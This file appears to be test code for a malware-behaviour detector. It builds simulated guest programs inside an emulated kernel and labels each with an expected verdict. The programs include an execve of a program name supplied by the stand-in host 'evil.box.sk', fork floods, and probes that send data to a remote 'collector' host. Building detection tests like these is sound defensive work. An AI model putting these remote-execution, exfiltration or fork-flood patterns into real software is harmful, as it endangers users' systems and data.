@@ -1,0 +1,584 @@
+#include "workloads/Micro.hh"
+
+#include "support/Logging.hh"
+#include "workloads/GuestLib.hh"
+
+namespace hth::workloads
+{
+
+using namespace os;
+using secpert::Severity;
+
+//
+// Table 4: execution flow
+//
+
+namespace
+{
+
+void
+setupLs(Kernel &k)
+{
+    k.vfs().addBinary("/bin/ls", makeLsBinary());
+    k.vfs().addFile(".", "bench.txt\nnotes.txt\n");
+}
+
+} // namespace
+
+std::vector<Scenario>
+executionFlowScenarios()
+{
+    std::vector<Scenario> out;
+
+    {
+        // execve with the program name from the command line.
+        Gasm a("/bench/execve_user.exe");
+        a.dataSpace("argv_slot", 4);
+        a.label("main");
+        a.entry("main");
+        a.loadArgv(1);                     // EAX = argv[1]
+        a.execveReg(Reg::Eax);
+        a.exit(1);                         // only reached on failure
+        auto image = a.build();
+
+        Scenario s;
+        s.id = "execve: User input";
+        s.description = "execve of a program named on the command line";
+        s.path = image->path;
+        s.argv = {image->path, "/bin/ls"};
+        s.setup = [image](Kernel &k) {
+            setupLs(k);
+            k.vfs().addBinary(image->path, image);
+        };
+        s.expectMalicious = false;
+        out.push_back(std::move(s));
+    }
+
+    {
+        // execve of a hard-coded program name.
+        Gasm a("/bench/execve_hard.exe");
+        a.dataString("prog", "/bin/ls");
+        a.label("main");
+        a.entry("main");
+        a.execveSym("prog");
+        a.exit(1);
+        auto image = a.build();
+
+        Scenario s;
+        s.id = "execve: Hardcode";
+        s.description = "execve of a hard-coded program name";
+        s.path = image->path;
+        s.setup = [image](Kernel &k) {
+            setupLs(k);
+            k.vfs().addBinary(image->path, image);
+        };
+        s.expectMalicious = true;
+        s.expectSeverity = Severity::Low;
+        out.push_back(std::move(s));
+    }
+
+    {
+        // execve of a name received over a socket.
+        Gasm a("/bench/execve_remote.exe");
+        a.dataString("srv", "evil.box.sk:6667");
+        a.dataSpace("namebuf", 32);
+        a.label("main");
+        a.entry("main");
+        a.sockCreate();
+        a.mov(Reg::Ebp, Reg::Eax);
+        a.leaSym(Reg::Edx, "srv");
+        a.sockConnect(Reg::Ebp, Reg::Edx);
+        a.leaSym(Reg::Edx, "namebuf");
+        a.sockRecv(Reg::Ebp, Reg::Edx, 31);
+        a.leaSym(Reg::Ebx, "namebuf");
+        a.execveReg(Reg::Ebx);
+        a.exit(1);
+        auto image = a.build();
+
+        Scenario s;
+        s.id = "execve: Remote execve";
+        s.description = "execve of a program name sent by a remote host";
+        s.path = image->path;
+        s.setup = [image](Kernel &k) {
+            setupLs(k);
+            k.vfs().addBinary(image->path, image);
+            k.net().addHost("evil.box.sk");
+            RemotePeer attacker;
+            attacker.name = "evil.box.sk:6667";
+            attacker.onConnect = [](RemoteConn &c) {
+                c.send("/bin/ls");
+            };
+            k.net().addRemoteServer("evil.box.sk:6667", attacker);
+        };
+        s.expectMalicious = true;
+        s.expectSeverity = Severity::High;
+        out.push_back(std::move(s));
+    }
+
+    {
+        // Hard-coded execve from rarely executed code, long after
+        // program start (the CIH-style trigger of §4.1).
+        Gasm a("/bench/execve_infreq.exe");
+        a.dataString("prog", "/bin/ls");
+        a.label("main");
+        a.entry("main");
+        a.sleepTicks(60000);
+        a.execveSym("prog");
+        a.exit(1);
+        auto image = a.build();
+
+        Scenario s;
+        s.id = "execve: Infrequent execve";
+        s.description =
+            "hard-coded execve after a long sleep from cold code";
+        s.path = image->path;
+        s.setup = [image](Kernel &k) {
+            setupLs(k);
+            k.vfs().addBinary(image->path, image);
+        };
+        s.expectMalicious = true;
+        s.expectSeverity = Severity::Medium;
+        out.push_back(std::move(s));
+    }
+
+    return out;
+}
+
+//
+// Table 5: resource abuse
+//
+
+std::vector<Scenario>
+resourceAbuseScenarios()
+{
+    std::vector<Scenario> out;
+
+    {
+        // One main thread forking workers that loop and sleep.
+        Gasm a("/bench/loop_forker.exe");
+        a.label("main");
+        a.entry("main");
+        a.movi(Reg::Ebp, 0);
+        a.label("loop");
+        a.fork();
+        a.cmpi(Reg::Eax, 0);
+        a.jz("child");
+        a.addi(Reg::Ebp, 1);
+        a.cmpi(Reg::Ebp, 20);
+        a.jl("loop");
+        a.exit(0);
+        a.label("child");
+        a.movi(Reg::Edi, 0);
+        a.label("child_loop");
+        a.sleepTicks(500);
+        a.addi(Reg::Edi, 1);
+        a.cmpi(Reg::Edi, 3);
+        a.jl("child_loop");
+        a.exit(0);
+        auto image = a.build();
+
+        Scenario s;
+        s.id = "fork: loop forker";
+        s.description = "main thread forks 20 looping children";
+        s.path = image->path;
+        s.setup = [image](Kernel &k) {
+            k.vfs().addBinary(image->path, image);
+        };
+        s.expectMalicious = true;
+        s.expectSeverity = Severity::Medium;
+        out.push_back(std::move(s));
+    }
+
+    {
+        // Fork tree: parent and child both continue forking.
+        Gasm a("/bench/tree_forker.exe");
+        a.label("main");
+        a.entry("main");
+        a.movi(Reg::Ebp, 0);
+        a.label("loop");
+        a.fork();
+        a.addi(Reg::Ebp, 1);
+        a.cmpi(Reg::Ebp, 5);
+        a.jl("loop");
+        a.exit(0);
+        auto image = a.build();
+
+        Scenario s;
+        s.id = "fork: tree forker";
+        s.description = "fork tree: both sides continue forking";
+        s.path = image->path;
+        s.setup = [image](Kernel &k) {
+            k.vfs().addBinary(image->path, image);
+        };
+        s.expectMalicious = true;
+        s.expectSeverity = Severity::Medium;
+        out.push_back(std::move(s));
+    }
+
+    return out;
+}
+
+//
+// Table 6: information flow
+//
+
+namespace
+{
+
+const char *
+flowSrcName(FlowSrc src)
+{
+    switch (src) {
+      case FlowSrc::Binary: return "Binary";
+      case FlowSrc::File: return "File";
+      case FlowSrc::Socket: return "Socket";
+      case FlowSrc::Hardware: return "Hardware";
+      case FlowSrc::UserInput: return "UserInput";
+    }
+    return "?";
+}
+
+const char *
+originName(NameOrigin origin)
+{
+    switch (origin) {
+      case NameOrigin::User: return "user";
+      case NameOrigin::Hard: return "hardcoded";
+      case NameOrigin::Remote: return "remote";
+    }
+    return "?";
+}
+
+/** Expected classification for one probe, per the §4.3 matrix. */
+void
+expectedOutcome(FlowSrc src, NameOrigin sname, FlowTgt tgt,
+                NameOrigin tname, SockRole role, bool *malicious,
+                Severity *severity)
+{
+    const bool src_fixed = (src == FlowSrc::File ||
+                            src == FlowSrc::Socket);
+    const bool src_hard = src_fixed && sname == NameOrigin::Hard;
+    const bool src_user = src_fixed && sname == NameOrigin::User;
+    const bool tgt_hard = tname == NameOrigin::Hard;
+    const bool tgt_user = tname == NameOrigin::User;
+    const bool tgt_remote = tname == NameOrigin::Remote;
+    const bool server_hard = role == SockRole::Server && tgt_hard &&
+                             tgt == FlowTgt::Socket;
+    const bool server_src_hard = role == SockRole::Server &&
+                                 src == FlowSrc::Socket && src_hard;
+
+    int warn = 0;
+    switch (src) {
+      case FlowSrc::Binary:
+      case FlowSrc::Hardware:
+      case FlowSrc::UserInput:
+        if (tgt_hard)
+            warn = (src == FlowSrc::Binary && tgt == FlowTgt::Socket)
+                       ? 1 : 3;
+        break;
+      case FlowSrc::File:
+      case FlowSrc::Socket:
+        if (src_user && tgt_hard)
+            warn = 1;
+        if (src_hard && tgt_user)
+            warn = 1;
+        if (src_hard && tgt_hard)
+            warn = 3;
+        if (sname == NameOrigin::Remote)
+            warn = 3;
+        break;
+    }
+    if (tgt_remote)
+        warn = 3;
+    if (server_hard || server_src_hard)
+        warn = 3;
+
+    *malicious = warn > 0;
+    *severity = warn >= 3 ? Severity::High
+                          : (warn == 2 ? Severity::Medium
+                                       : Severity::Low);
+}
+
+} // namespace
+
+Scenario
+makeInfoFlowScenario(FlowSrc src, NameOrigin src_name, FlowTgt tgt,
+                     NameOrigin tgt_name, SockRole role)
+{
+    std::string id = std::string(flowSrcName(src)) + "(" +
+                     originName(src_name) + ") -> " +
+                     (tgt == FlowTgt::File ? "File" : "Socket") + "(" +
+                     originName(tgt_name) + ")";
+    if ((src == FlowSrc::Socket || tgt == FlowTgt::Socket) &&
+        role == SockRole::Server)
+        id += " [server]";
+
+    Gasm a("/bench/flow.exe");
+    a.dataString("payload", "hardcoded-payload-data");
+    a.dataSpace("buf", 64);
+    a.dataSpace("namebuf", 32);
+    a.dataSpace("argv_slot", 4);
+    a.dataSpace("fd_slot", 4);
+    a.dataSpace("conn_slot", 4);
+    a.dataString("src_file", "/data/in.dat");
+    a.dataString("tgt_file", "/tmp/out.dat");
+    a.dataString("src_srv", "datasrv.example.com:9000");
+    a.dataString("tgt_srv", "collector.example.com:9100");
+    a.dataString("bind_addr", "LocalHost:7777");
+    a.dataString("name_srv", "namesrv.example.com:9200");
+
+    auto save = [&a](const std::string &slot, Reg r) {
+        a.leaSym(Reg::Edi, slot);
+        a.store(Reg::Edi, 0, r);
+    };
+    auto restore = [&a](const std::string &slot, Reg r) {
+        a.leaSym(Reg::Edi, slot);
+        a.load(r, Reg::Edi, 0);
+    };
+    // EAX <- a name pointer according to its origin. argv_index: 1
+    // for the source name, 2 for the target name.
+    auto name_ptr = [&](NameOrigin origin, const std::string &hard_sym,
+                        int argv_index) {
+        switch (origin) {
+          case NameOrigin::User:
+            restore("argv_slot", Reg::Ebx);
+            a.loadArgv(argv_index);
+            break;
+          case NameOrigin::Hard:
+            a.leaSym(Reg::Eax, hard_sym);
+            break;
+          case NameOrigin::Remote:
+            // Fetch the name from the name server.
+            a.sockCreate();
+            save("fd_slot", Reg::Eax);
+            a.mov(Reg::Ebp, Reg::Eax);
+            a.leaSym(Reg::Edx, "name_srv");
+            a.sockConnect(Reg::Ebp, Reg::Edx);
+            a.leaSym(Reg::Edx, "namebuf");
+            a.sockRecv(Reg::Ebp, Reg::Edx, 31);
+            a.leaSym(Reg::Eax, "namebuf");
+            break;
+        }
+    };
+
+    a.label("main");
+    a.entry("main");
+    save("argv_slot", Reg::Ebx);
+
+    //
+    // Stage 1: put 16 bytes of source data into "buf" (or use the
+    // payload directly for the BINARY source).
+    //
+    switch (src) {
+      case FlowSrc::Binary:
+        break; // write straight from "payload"
+      case FlowSrc::UserInput:
+        a.readSym(0, "buf", 16); // stdin
+        break;
+      case FlowSrc::File:
+        name_ptr(src_name, "src_file", 1);
+        a.openReg(Reg::Eax, GO_RDONLY);
+        a.mov(Reg::Ebp, Reg::Eax);
+        a.readFd(Reg::Ebp, "buf", 16);
+        a.closeFd(Reg::Ebp);
+        break;
+      case FlowSrc::Socket:
+        if (role == SockRole::Client) {
+            name_ptr(src_name, "src_srv", 1);
+            a.mov(Reg::Edx, Reg::Eax);
+            a.sockCreate();
+            a.mov(Reg::Ebp, Reg::Eax);
+            a.sockConnect(Reg::Ebp, Reg::Edx);
+        } else {
+            name_ptr(src_name, "bind_addr", 1);
+            a.mov(Reg::Edx, Reg::Eax);
+            a.sockCreate();
+            a.mov(Reg::Ebp, Reg::Eax);
+            a.sockBind(Reg::Ebp, Reg::Edx);
+            a.sockListen(Reg::Ebp);
+            a.sockAccept(Reg::Ebp);
+            a.mov(Reg::Ebp, Reg::Eax); // read from the connection
+        }
+        a.leaSym(Reg::Edx, "buf");
+        a.sockRecv(Reg::Ebp, Reg::Edx, 16);
+        break;
+      case FlowSrc::Hardware:
+        a.cpuid();
+        a.leaSym(Reg::Esi, "buf");
+        a.store(Reg::Esi, 0, Reg::Eax);
+        a.store(Reg::Esi, 4, Reg::Ebx);
+        a.store(Reg::Esi, 8, Reg::Ecx);
+        a.store(Reg::Esi, 12, Reg::Edx);
+        break;
+    }
+
+    //
+    // Stage 2: write the data to the target.
+    //
+    const char *data_sym =
+        src == FlowSrc::Binary ? "payload" : "buf";
+    if (tgt == FlowTgt::File) {
+        name_ptr(tgt_name, "tgt_file", 2);
+        a.creatReg(Reg::Eax);
+        a.mov(Reg::Ebp, Reg::Eax);
+        a.writeFd(Reg::Ebp, data_sym, 16);
+        a.closeFd(Reg::Ebp);
+    } else if (role == SockRole::Client || src == FlowSrc::Socket) {
+        // Socket target as a client (the source may already be a
+        // server; only one endpoint can serve in a probe).
+        name_ptr(tgt_name, "tgt_srv", 2);
+        a.mov(Reg::Edx, Reg::Eax);
+        a.sockCreate();
+        a.mov(Reg::Ebp, Reg::Eax);
+        a.sockConnect(Reg::Ebp, Reg::Edx);
+        a.leaSym(Reg::Ecx, data_sym);
+        a.movi(Reg::Edx, 16);
+        a.sockSend(Reg::Ebp, Reg::Ecx, Reg::Edx);
+    } else {
+        // Socket target as a server: bind, listen, accept, send.
+        name_ptr(tgt_name, "bind_addr", 2);
+        a.mov(Reg::Edx, Reg::Eax);
+        a.sockCreate();
+        a.mov(Reg::Ebp, Reg::Eax);
+        a.sockBind(Reg::Ebp, Reg::Edx);
+        a.sockListen(Reg::Ebp);
+        a.sockAccept(Reg::Ebp);
+        a.mov(Reg::Ebp, Reg::Eax);
+        a.leaSym(Reg::Ecx, data_sym);
+        a.movi(Reg::Edx, 16);
+        a.sockSend(Reg::Ebp, Reg::Ecx, Reg::Edx);
+    }
+    a.exit(0);
+    auto image = a.build();
+
+    Scenario s;
+    s.id = id;
+    s.description = "information-flow probe " + id;
+    s.path = image->path;
+    s.argv = {image->path, "/data/user_in.dat", "/tmp/user_out.dat"};
+    if (src == FlowSrc::Socket && src_name == NameOrigin::User) {
+        s.argv[1] = role == SockRole::Client
+                        ? "datasrv.example.com:9000"
+                        : "LocalHost:7878";
+    }
+    if (tgt == FlowTgt::Socket && tgt_name == NameOrigin::User) {
+        s.argv[2] = (role == SockRole::Server &&
+                     src != FlowSrc::Socket)
+                        ? "LocalHost:7878"
+                        : "collector.example.com:9100";
+    }
+    if (src == FlowSrc::UserInput)
+        s.stdinData = "typed-by-the-user";
+
+    const bool server_probe =
+        role == SockRole::Server &&
+        (src == FlowSrc::Socket || tgt == FlowTgt::Socket);
+    s.setup = [image, server_probe, src](Kernel &k) {
+        k.vfs().addBinary(image->path, image);
+        k.vfs().addFile("/data/in.dat", "hardname-file-contents!");
+        k.vfs().addFile("/data/user_in.dat", "username-file-contents");
+        k.net().addHost("datasrv.example.com");
+        k.net().addHost("collector.example.com");
+        k.net().addHost("namesrv.example.com");
+
+        RemotePeer data_server;
+        data_server.name = "datasrv.example.com:9000";
+        data_server.onConnect = [](RemoteConn &c) {
+            c.send("remote-data-payload!");
+        };
+        k.net().addRemoteServer("datasrv.example.com:9000",
+                                data_server);
+
+        RemotePeer collector;
+        collector.name = "collector.example.com:9100";
+        k.net().addRemoteServer("collector.example.com:9100",
+                                collector);
+
+        RemotePeer name_server;
+        name_server.name = "namesrv.example.com:9200";
+        name_server.onConnect = [](RemoteConn &c) {
+            c.send("/tmp/loot.dat");
+        };
+        k.net().addRemoteServer("namesrv.example.com:9200",
+                                name_server);
+
+        if (server_probe) {
+            // A remote client for whichever address the probe
+            // listens on.
+            for (const char *addr :
+                 {"LocalHost:7777", "LocalHost:7878"}) {
+                RemotePeer client;
+                client.name = "gateway:36982";
+                if (src == FlowSrc::Socket) {
+                    client.onConnect = [](RemoteConn &c) {
+                        c.send("remote-client-data!!");
+                    };
+                }
+                k.net().addRemoteClient(addr, client);
+            }
+        }
+    };
+
+    expectedOutcome(src, src_name, tgt, tgt_name, role,
+                    &s.expectMalicious, &s.expectSeverity);
+    return s;
+}
+
+std::vector<Scenario>
+infoFlowScenarios()
+{
+    std::vector<Scenario> out;
+
+    // Binary -> File: user / hardcoded / remote file name.
+    out.push_back(makeInfoFlowScenario(
+        FlowSrc::Binary, NameOrigin::User, FlowTgt::File,
+        NameOrigin::User));
+    out.push_back(makeInfoFlowScenario(
+        FlowSrc::Binary, NameOrigin::User, FlowTgt::File,
+        NameOrigin::Hard));
+    out.push_back(makeInfoFlowScenario(
+        FlowSrc::Binary, NameOrigin::User, FlowTgt::File,
+        NameOrigin::Remote));
+
+    // Binary -> Socket: user / hardcoded address, both roles.
+    for (SockRole role : {SockRole::Client, SockRole::Server}) {
+        out.push_back(makeInfoFlowScenario(
+            FlowSrc::Binary, NameOrigin::User, FlowTgt::Socket,
+            NameOrigin::User, role));
+        out.push_back(makeInfoFlowScenario(
+            FlowSrc::Binary, NameOrigin::User, FlowTgt::Socket,
+            NameOrigin::Hard, role));
+    }
+
+    // File -> File: the four name-origin combinations.
+    for (NameOrigin sn : {NameOrigin::User, NameOrigin::Hard})
+        for (NameOrigin tn : {NameOrigin::User, NameOrigin::Hard})
+            out.push_back(makeInfoFlowScenario(FlowSrc::File, sn,
+                                               FlowTgt::File, tn));
+
+    // File -> Socket: four combinations, client and server roles.
+    for (SockRole role : {SockRole::Client, SockRole::Server})
+        for (NameOrigin sn : {NameOrigin::User, NameOrigin::Hard})
+            for (NameOrigin tn : {NameOrigin::User, NameOrigin::Hard})
+                out.push_back(makeInfoFlowScenario(
+                    FlowSrc::File, sn, FlowTgt::Socket, tn, role));
+
+    // Socket -> File: four combinations, client and server roles.
+    for (SockRole role : {SockRole::Client, SockRole::Server})
+        for (NameOrigin sn : {NameOrigin::User, NameOrigin::Hard})
+            for (NameOrigin tn : {NameOrigin::User, NameOrigin::Hard})
+                out.push_back(makeInfoFlowScenario(
+                    FlowSrc::Socket, sn, FlowTgt::File, tn, role));
+
+    // Hardware -> File: user / hardcoded file name.
+    out.push_back(makeInfoFlowScenario(
+        FlowSrc::Hardware, NameOrigin::User, FlowTgt::File,
+        NameOrigin::User));
+    out.push_back(makeInfoFlowScenario(
+        FlowSrc::Hardware, NameOrigin::User, FlowTgt::File,
+        NameOrigin::Hard));
+
+    return out;
+}
+
+} // namespace hth::workloads
